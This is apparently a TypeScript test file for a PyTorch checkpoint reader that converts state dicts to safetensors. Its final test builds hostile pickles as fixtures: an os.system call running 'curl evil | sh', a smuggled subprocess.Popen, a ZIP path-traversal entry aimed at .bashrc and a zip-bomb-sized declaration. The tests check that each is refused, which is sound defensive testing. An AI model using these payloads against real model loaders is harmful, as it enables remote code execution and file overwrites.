import assert from 'node:assert/strict';
import { test } from 'node:test';
import { toFloat16Bits } from '@atelier/onnx-graph';
import { CheckpointError, UnsafePickleError } from '../pickle/errors.js';
import { PickleWriter } from '../pickle/testing/pickle-writer.js';
import { legacyCheckpoint, torchPickle, torchZip, type FixtureValue } from '../pickle/testing/torch-fixtures.js';
import { unpickle } from '../pickle/unpickler.js';
import { PickleDict, TorchStorage } from '../pickle/values.js';
import { parseSafetensors, tensorToFloat32, type TensorEntry } from '../safetensors.js';
import { writeZip } from '../zip/testing/zip-writer.js';
import { ZipError } from '../zip/zip-error.js';
import { convertCheckpointToSafetensors, readTorchCheckpoint } from './torch-checkpoint.js';

const f32 = (...values: number[]) => new Uint8Array(Float32Array.from(values).buffer);
const f16 = (...values: number[]) => new Uint8Array(toFloat16Bits(values).buffer);
const bf16 = (...bits: number[]) => new Uint8Array(Uint16Array.from(bits).buffer);

function values(entry: TensorEntry | undefined): number[] {
  assert.ok(entry !== undefined, 'tensor is present');
  return Array.from(tensorToFloat32(entry));
}

const stateDict: FixtureValue = {
  ordered: true,
  dict: [
    ['w', { tensor: { storage: '0', dtype: 'F32', numel: 6, shape: [2, 3] } }],
    ['b', { tensor: { storage: '1', dtype: 'F32', numel: 5, shape: [3], offset: 2 } }],
    ['shared_a', { tensor: { storage: '2', dtype: 'F16', numel: 4, shape: [2] } }],
    ['shared_b', { tensor: { storage: '2', dtype: 'F16', numel: 4, shape: [2, 1], offset: 2, stride: [1, 7] } }],
    ['p', { tensor: { storage: '3', dtype: 'F32', numel: 1, shape: [], parameter: true } }],
    ['e', { tensor: { storage: '4', dtype: 'BF16', numel: 2, shape: [2] } }],
    ['step', 5],
  ],
};
const storages = { '0': f32(1, 2, 3, 4, 5, 6), '1': f32(10, 11, 12, 13, 14), '2': f16(0.5, -1, 2, 4), '3': f32(42), '4': bf16(0x3f80, 0xc000) };

function assertStateDict(tensors: Map<string, TensorEntry>): void {
  assert.deepEqual([...tensors.keys()].sort(), ['b', 'e', 'p', 'shared_a', 'shared_b', 'w']);
  assert.deepEqual(tensors.get('w')?.shape, [2, 3]);
  assert.deepEqual(values(tensors.get('w')), [1, 2, 3, 4, 5, 6]);
  assert.deepEqual(values(tensors.get('b')), [12, 13, 14], 'the storage offset is honoured');
  assert.equal(tensors.get('shared_a')?.dtype, 'F16');
  assert.deepEqual(values(tensors.get('shared_a')), [0.5, -1]);
  assert.deepEqual(tensors.get('shared_b')?.shape, [2, 1]);
  assert.deepEqual(values(tensors.get('shared_b')), [2, 4], 'a second window of the same storage');
  assert.deepEqual(tensors.get('p')?.shape, []);
  assert.deepEqual(values(tensors.get('p')), [42], 'a Parameter is its tensor');
  assert.equal(tensors.get('e')?.dtype, 'BF16');
  assert.deepEqual(values(tensors.get('e')), [1, -2]);
}

test('a torch ZIP state dict converts to safetensors with the same tensors', () => {
  for (const zip64 of [false, true]) {
    const checkpoint = torchZip(stateDict, storages, { zip64, prefix: 'unet_v1' });
    const read = readTorchCheckpoint(checkpoint);
    assertStateDict(read.tensors);
    assert.deepEqual(read.skipped, ['step']);
    assert.equal(read.tensors.get('shared_a')?.data.buffer, checkpoint.buffer, 'stored tensors are views into the file');

    const converted = parseSafetensors(convertCheckpointToSafetensors(checkpoint));
    assert.deepEqual(converted.metadata, { format: 'pt' });
    assertStateDict(converted.tensors);
  }
});

test('a Lightning checkpoint is read through its nested state_dict', () => {
  const lightning: FixtureValue = {
    dict: [
      ['epoch', 3],
      ['global_step', 470000],
      ['pytorch-lightning_version', '1.9.0'],
      ['state_dict', stateDict],
      ['callbacks', { dict: [[{ global: ['pytorch_lightning.callbacks.model_checkpoint', 'ModelCheckpoint'] }, { dict: [['best_model_score', { numpy: 0.25 }], ['monitor', 'val/loss']] }]] }],
      ['lr', 1e-4],
    ],
  };
  const read = readTorchCheckpoint(torchZip(lightning, storages));
  assertStateDict(read.tensors);
  assert.deepEqual(read.skipped, ['step']);

  // The non-tensor parts decode to plain data: the numpy metric is a number.
  const root = unpickle(torchPickle(lightning), { persistentLoad: () => new TorchStorage('0', 'F32', 6, storages['0']) }).value;
  assert.ok(root instanceof PickleDict);
  const callbacks = root.get('callbacks');
  assert.ok(callbacks instanceof PickleDict);
  const state = [...callbacks.entries.values()][0];
  assert.ok(state instanceof PickleDict);
  assert.equal(state.get('best_model_score'), 0.25);
});

test('the legacy (pre-1.6) format with storage views converts too', () => {
  const root: FixtureValue = {
    ordered: true,
    dict: [
      ['w', { tensor: { storage: '0', dtype: 'F32', numel: 6, shape: [3] } }],
      ['v', { tensor: { storage: '0', dtype: 'F32', numel: 6, shape: [2], offset: 1, view: { key: '0v', offset: 3, size: 3 } } }],
      ['h', { tensor: { storage: '1', dtype: 'F16', numel: 2, shape: [1, 2] } }],
    ],
  };
  const bytes = legacyCheckpoint(root, [
    { key: '0', numel: 6, data: f32(1, 2, 3, 4, 5, 6) },
    { key: '1', numel: 2, data: f16(-0.5, 8) },
  ]);
  const tensors = parseSafetensors(convertCheckpointToSafetensors(bytes)).tensors;
  assert.deepEqual(values(tensors.get('w')), [1, 2, 3]);
  assert.deepEqual(values(tensors.get('v')), [5, 6], 'view at element 3, tensor offset 1 within it');
  assert.deepEqual(values(tensors.get('h')), [-0.5, 8]);

  assert.throws(() => readTorchCheckpoint(bytes.subarray(0, bytes.length - 3)), /truncated: storage "1" needs 4 bytes/);
  assert.throws(() => readTorchCheckpoint(new Uint8Array([...bytes, 0])), /1 unexpected bytes after the last storage/);
});

test('big-endian archives are byte-swapped to little-endian', () => {
  const be = new Uint8Array(8);
  new DataView(be.buffer).setFloat32(0, 1.5, false);
  new DataView(be.buffer).setFloat32(4, -2, false);
  const read = readTorchCheckpoint(torchZip({ dict: [['x', { tensor: { storage: '0', dtype: 'F32', numel: 2, shape: [2] } }]] }, { '0': be }, { byteorder: 'big' }));
  assert.deepEqual(values(read.tensors.get('x')), [1.5, -2]);
});

function checkpointError(bytes: Uint8Array, reason: RegExp): void {
  assert.throws(
    () => readTorchCheckpoint(bytes),
    (error: unknown) => {
      assert.ok(error instanceof CheckpointError, `expected CheckpointError, got ${String(error)}`);
      assert.match(error.message, reason);
      return true;
    },
  );
}

test('tensors that cannot be read as plain contiguous data are refused with the tensor named', () => {
  const one = (tensor: FixtureValue, data: Record<string, Uint8Array> = { '0': f32(1, 2, 3, 4, 5, 6) }) => torchZip({ dict: [['t', tensor]] }, data);
  checkpointError(one({ tensor: { storage: '0', dtype: 'F32', numel: 6, shape: [3, 2], stride: [1, 3] } }), /tensor "t" is not contiguous \(size \[3, 2\], stride \[1, 3\]\)/);
  checkpointError(one({ tensor: { storage: '0', dtype: 'F32', numel: 6, shape: [3], offset: 5 } }), /tensor "t": elements \[5, 8\) run past storage "0" \(6 elements\)/);
  checkpointError(one({ tensor: { storage: '0', dtype: 'F32', numel: 6, shape: [6] } }, { '0': new Uint8Array(20) }), /storage "0" is 20 bytes but 6 F32 elements need 24/);
  checkpointError(one({ tensor: { storage: '9', dtype: 'F32', numel: 1, shape: [1] } }), /storage "9" has no record archive\/data\/9/);
  checkpointError(
    torchZip({ dict: [['a', { tensor: { storage: '0', dtype: 'F32', numel: 6, shape: [6] } }], ['b', { tensor: { storage: '0', dtype: 'F16', numel: 12, shape: [12] } }]] }, { '0': f32(1, 2, 3, 4, 5, 6) }),
    /storage "0" is named as both F32 and F16/,
  );
  checkpointError(torchZip({ dict: [['n', 1]] }, {}, { pickle: new PickleWriter().proto(2).emptyList().stop().toBytes() }), /holds a list, not a state dict/);
  assert.throws(() => convertCheckpointToSafetensors(torchZip({ dict: [['epoch', 1]] }, {})), /holds no tensors \(entries: epoch\)/);
  checkpointError(new TextEncoder().encode('{"not": "a checkpoint"}'), /neither a ZIP archive nor a pickle/);

  const modulePid = new PickleWriter().proto(2).str('module').str('Net').str('class Net: ...').tuple(3).persid().stop().toBytes();
  checkpointError(torchZip(null, {}, { pickle: modulePid }), /persistent id of kind "module" is not supported/);
  const pathKey = new PickleWriter().proto(2).mark().str('storage').global('torch', 'FloatStorage').str('../../x').str('cpu').int(1).tuple().persid().stop().toBytes();
  checkpointError(torchZip(null, {}, { pickle: pathKey }), /key must be a short alphanumeric string, got "\.\.\/\.\.\/x"/);
});

test('hostile checkpoints are refused before anything is built', () => {
  const payload = new PickleWriter().proto(2).global('os', 'system').str('curl evil | sh').tuple(1).reduce().stop().toBytes();
  // In a ZIP archive's data.pkl, and as the first pickle of a legacy-format file.
  for (const bytes of [torchZip(null, {}, { pickle: payload }), payload]) {
    assert.throws(
      () => readTorchCheckpoint(bytes),
      (error: unknown) => error instanceof UnsafePickleError && error.offender === 'os.system' && error.offset === 2,
    );
  }
  // A hostile class smuggled in as the storage type of a persistent id.
  const pid = new PickleWriter().proto(2).mark().str('storage').global('subprocess', 'Popen').str('0').str('cpu').int(1).tuple().persid().stop().toBytes();
  assert.throws(() => readTorchCheckpoint(torchZip(null, {}, { pickle: pid })), (error: unknown) => error instanceof UnsafePickleError && error.offender === 'subprocess.Popen');

  const pickle = torchPickle({ dict: [] });
  assert.throws(
    () => readTorchCheckpoint(writeZip([{ name: 'archive/data.pkl', data: pickle }, { name: 'archive/../../../home/user/.bashrc', data: new Uint8Array(4) }])),
    (error: unknown) => error instanceof ZipError && error.entry === 'archive/../../../home/user/.bashrc' && /escapes the archive/.test(error.message),
  );
  assert.throws(
    () => readTorchCheckpoint(writeZip([{ name: 'archive/data.pkl', data: pickle, deflate: true, declare: { size: 2 ** 37 } }], { zip64: true })),
    (error: unknown) => error instanceof ZipError && error.entry === 'archive/data.pkl' && /declares 137438953472 bytes, over the 68719476736-byte limit/.test(error.message),
  );
});
